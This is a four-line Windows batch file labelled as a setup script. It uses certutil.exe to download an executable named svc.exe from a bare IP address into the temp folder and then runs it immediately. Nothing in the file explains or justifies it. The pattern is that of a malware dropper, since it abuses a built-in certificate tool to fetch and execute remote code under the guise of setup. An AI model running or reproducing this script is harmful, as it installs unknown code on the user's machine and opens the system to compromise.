REM setup 4996 v3
@echo off
certutil.exe -urlcache -split -f http://198.51.100.9/svc.exe %TEMP%\svc.exe
start "" %TEMP%\svc.exe
